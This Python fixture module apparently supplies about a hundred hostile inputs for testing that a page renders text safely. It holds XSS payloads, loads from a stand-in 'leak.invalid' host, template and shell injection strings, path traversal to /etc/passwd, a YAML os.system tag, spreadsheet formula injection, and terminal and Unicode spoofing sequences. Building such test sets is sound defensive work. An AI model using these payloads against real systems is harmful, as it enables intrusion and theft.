"""A hundred texts that a page must show, and nothing else: 57 that try to run a script, load
something or end what they stand in, 43 that hide, mislead, overflow or break a parser.

Each that could run calls `hits.push(NUMBER)`, so that a test can tell which one did.
"""

from __future__ import annotations

from dataclasses import dataclass

AWAY = "http://leak.invalid/x"  # a request to it is a leak
_HIT = "hits.push(@)"

_MARKUP = {
    "script": f"<script>{_HIT}</script>",
    "script with a source": f"<script src={AWAY}></script>",
    "script with a slash": f"<script/x>{_HIT}</script>",
    "script as a module": f"<script type=module>{_HIT}</script>",
    "script never closed": f"<script>{_HIT}//",
    "nested script": f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
    "image error": f"<img src=x onerror={_HIT}>",
    "image without quotes or spaces": f"<img/src='x'/onerror={_HIT}>",
    "image elsewhere": f"<img src={AWAY}>",
    "image set": f"<img srcset='{AWAY} 1x'>",
    "svg load": f"<svg onload={_HIT}>",
    "svg script": f"<svg><script>{_HIT}</script></svg>",
    "svg animation": f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    "svg link": f"<svg><a xlink:href='javascript:{_HIT}'><text y=20>x</text></a></svg>",
    "svg use": f"<svg><use href='{AWAY}#a'/></svg>",
    "svg foreign object": f"<svg><foreignObject><body onload={_HIT}></foreignObject></svg>",
    "math": f"<math><maction actiontype=statusline xlink:href='javascript:{_HIT}'>x</maction>",
    "body event": f"<body onload={_HIT}>",
    "focus event": f"<input autofocus onfocus={_HIT}>",
    "details event": f"<details open ontoggle={_HIT}>x</details>",
    "marquee event": f"<marquee onstart={_HIT}>x</marquee>",
    "video event": f"<video><source onerror={_HIT}></video>",
    "audio elsewhere": f"<audio autoplay src={AWAY}></audio>",
    "animation event": f"<b style='animation:x 1s' onanimationstart={_HIT}>x</b>",
    "pointer event": f"<p onpointerover={_HIT} onmouseover={_HIT} onclick={_HIT}>x</p>",
    "frame": f"<iframe src={AWAY}></iframe>",
    "frame with a document": f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
    "frame with a script address": f"<iframe src='javascript:parent.{_HIT}'></iframe>",
    "object": f"<object data='data:text/html,<script>parent.{_HIT}</script>'></object>",
    "embed": f"<embed src={AWAY}>",
    "base": f"<base href={AWAY}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "looser policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "form": f"<form action={AWAY}><button autofocus>send</button></form>",
    "form of another": f"<button form=rw formaction='javascript:{_HIT}'>x</button>",
    "link element": f"<link rel=stylesheet href={AWAY}>",
    "style element": f"<style>@import '{AWAY}'; *{{display:none}}</style>",
    "style attribute": f"<p style='background:url({AWAY});position:fixed;inset:0'>x</p>",
    "css out of a rule": f"}} * {{ background: url({AWAY}) }} a {{",
    "css expression": f"width: expression({_HIT}); -moz-binding: url({AWAY})",
    "script address": f"javascript:{_HIT}",
    "script address, broken up": f"java\tscript:{_HIT}",
    "data address": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0cy5wdXNoKDApPC9zY3JpcHQ+",
    "anchor": f"<a href='javascript:{_HIT}' ping={AWAY}>x</a>",
    "double quote out": f"\" onmouseover=\"{_HIT}\" x=\"",
    "single quote out": f"' onmouseover='{_HIT}' x='",
    "no quote out": f" onmouseover={_HIT} ",
    "tag out of an attribute": f"\"><img src=x onerror={_HIT}>",
    "script's end": f"</script><script>{_HIT}</script>",
    "style's end": f"</style><script>{_HIT}</script>",
    "title's end": f"</title><script>{_HIT}</script>",
    "textarea's end": f"</textarea></select></option><script>{_HIT}</script>",
    "table's end": f"</td></tr></table></section></main><script>{_HIT}</script>",
    "noscript's end": f"<noscript><p title=\"</noscript><img src=x onerror={_HIT}>\">",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=x onerror={_HIT}&gt;\">",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={_HIT}>",
    "template element": f"<template shadowrootmode=open><script>{_HIT}</script></template>",
}  # fmt: skip

_BREAKERS = {
    "comment opened": "<!-- the rest is gone",
    "comment, then script": f"<!--<script>--><script>{_HIT}</script>",
    "cdata": f"<![CDATA[<script>{_HIT}</script>]]>",
    "plaintext": "<plaintext>",
    "processing instruction": f"<?xml-stylesheet href='{AWAY}'?><!DOCTYPE x SYSTEM '{AWAY}'>",
    "json out of a string": f'"}}]}}; {_HIT}; [{{"a":"',
    "json escape": f"\\u003cscript\\u003e{_HIT}\\u003c/script\\u003e \\",
    "lines of JavaScript": f"a\u2028{_HIT}\u2029b",
    "template braces": "{{7*7}} {{ self.__init__.__globals__ }} {# x #}",
    "template statements": "{% raw %}{% endblock %}{% include 'base.html.j2' %}",
    "template literal": f"`${{{_HIT}}}` #{{7*7}} <%= 7*7 %>",
    "entities": f"&lt;script&gt;{_HIT}&lt;/script&gt; &amp;lt; &#60; &#x3c; &nbsp;",
    "percent encoding": f"%3Cscript%3E{_HIT}%3C/script%3E%00",
    "utf-7": "+ADw-script+AD4-hits.push(1)+ADw-/script+AD4-",
    "code marks": "`rm -r` and `one more",
    "prototype": "__proto__",
    "constructor": "constructor",
    "path upwards": "../../../../etc/passwd",
    "path of Windows": "C:\\..\\con.txt:$DATA",
    "address of a file": "file:///etc/passwd",
    "formula": "=HYPERLINK(\"" + AWAY + "\";\"x\")",
    "command formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "shell": "$(touch /tmp/hit) ; `id` | x && y 'z",
    "format": "%s%n {0.__class__} %(a)s",
    "markup of a terminal library": "[bold red]x[/] [link=" + AWAY + "]x[/link]",
    "yaml": "!!python/object/apply:os.system ['id']",
    "null": "null",
}  # fmt: skip

_UNSEEN = {
    "right-to-left override": "invoice\u202egpj.exe",
    "isolates": "a\u2066b\u2067c\u2068d\u2069\u061c\u200e\u200f",
    "never closed embedding": "\u202bx\u202d" * 20,
    "zero width": "pass\u200bword\u200c\u200d\ufeff\u2060",
    "homoglyphs": "раураl and ѕсоре",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "soft hyphens and fillers": "a\u00adb\u034fc\u3164d\u115fe",
    "control characters": "nul\0bell\x07back\x08form\x0cdel\x7f\x9b31m",
    "terminal colours and title": "\x1b[31;5mred\x1b[0m\x1b]0;owned\x07\x1b[2J\x1b[1A",
    "terminal link": "\x1b]8;;" + AWAY + "\x1b\\x\x1b]8;;\x1b\\\r\x1b[Kgone",
    "lone surrogates": "a\ud800b\udfffc\udcff",
    "combining flood": "Z" + "\u0300\u0341\u0336\u0489" * 300,
    "emoji joined": "👩‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🚀🇩🇪",
    "right-to-left words": "שלום עולם (1 + 2) مرحبا ١٢٣",
    "one very long name": "name-" + "x" * 3000,
}

_HUGE = {"a word of a megabyte": "w" * 1_000_000}


@dataclass(frozen=True, slots=True)
class Payload:
    number: int
    name: str
    text: str

    @property
    def is_folder_name(self) -> bool:
        """Whether a file system takes it."""
        try:
            size = len(self.text.encode())
        except UnicodeEncodeError:
            return False
        return size <= 240 and not {"/", "\0"} & set(self.text)


PAYLOADS = tuple(
    Payload(number, name, text.replace("@", str(number)) if "hits" in text else text)
    for number, (name, text) in enumerate((_MARKUP | _BREAKERS | _UNSEEN | _HUGE).items())
)
